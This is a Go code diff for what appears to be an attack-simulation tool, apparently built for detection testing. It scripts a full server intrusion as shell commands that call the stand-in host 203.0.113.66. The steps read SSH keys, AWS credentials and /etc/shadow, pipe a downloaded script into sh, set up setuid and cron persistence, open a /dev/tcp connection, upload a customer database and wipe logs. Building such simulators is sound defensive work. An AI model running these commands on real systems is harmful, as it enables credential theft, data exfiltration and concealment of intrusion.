@@ -10,11 +10,12 @@ const pause = 800 * time.Millisecond
 
 // installScript is what the attacker pipes into a shell.
 const installScript = `#!/bin/sh
+set -e
 curl -s -o /tmp/agent http://203.0.113.66/agent
 chmod 755 /tmp/agent
 cp /tmp/agent /dev/shm/agent
-/tmp/agent agent version
-/dev/shm/agent agent version
+/tmp/agent version
+/dev/shm/agent version
 `
 
 // step is one move of the attacker: a command for the server's shell.
@@ -25,15 +26,24 @@ type step struct {
 
 func steps() []step {
 	return []step{
-		{"the web server is made to run a shell", "id; uname -a"},
-		{"secrets are hunted for and read", "find /home /root -name id_rsa; cat /home/app/.ssh/id_rsa /root/.aws/credentials /etc/shadow"},
-		{"a script is fetched and run: it drops a program in /tmp and /dev/shm", "curl -s http://203.0.113.66/install.sh | sh"},
-		{"root is taken back by a program with the setuid bit", "chown root /tmp/agent; chmod 4755 /tmp/agent; /dev/shm/agent agent drop /tmp/agent agent raise"},
-		{"persistence: a cron job and a program among the system's", "echo '* * * * * root /dev/shm/agent' > /etc/cron.d/update; cp /dev/shm/agent /usr/local/bin/update"},
-		{"the shell itself connects outside", "bash -c 'echo hello > /dev/tcp/203.0.113.66/443'"},
-		{"a beacon calls home ten times", "/dev/shm/agent agent beacon 203.0.113.66:443"},
-		{"a database dump is read and 8 MiB are uploaded", "cat /srv/backup/customers.sql > /tmp/loot; head -c 8388608 /dev/zero >> /tmp/loot; curl -s -T /tmp/loot http://203.0.113.66/loot"},
-		{"logs and the shell's history are cleared", ": > /var/log/auth.log; rm /var/log/app.log /root/.bash_history"},
+		{"the web server is made to run a shell",
+			"id && uname -a"},
+		{"secrets are hunted for and read",
+			"find /home /root -name id_rsa && cat /home/app/.ssh/id_rsa /root/.aws/credentials /etc/shadow"},
+		{"a script is fetched and run: it drops a program in /tmp and /dev/shm",
+			"curl -s http://203.0.113.66/install.sh | sh"},
+		{"root is taken back by a program with the setuid bit",
+			"chmod 4755 /tmp/agent && /dev/shm/agent drop /tmp/agent raise"},
+		{"persistence: a cron job and a program among the system's",
+			"echo '* * * * * root /dev/shm/agent' > /etc/cron.d/update && cp /dev/shm/agent /usr/local/bin/update"},
+		{"the shell itself connects outside",
+			"bash -c 'echo hello > /dev/tcp/203.0.113.66/443'"},
+		{"a beacon calls home ten times",
+			"/dev/shm/agent beacon 203.0.113.66:443"},
+		{"a database dump is read and 8 MiB are uploaded",
+			"cat /srv/backup/customers.sql > /tmp/loot && head -c 8388608 /dev/zero >> /tmp/loot && curl -s -T /tmp/loot http://203.0.113.66/loot"},
+		{"logs and the shell's history are cleared",
+			": > /var/log/auth.log && rm /var/log/app.log /root/.bash_history"},
 	}
 }
 
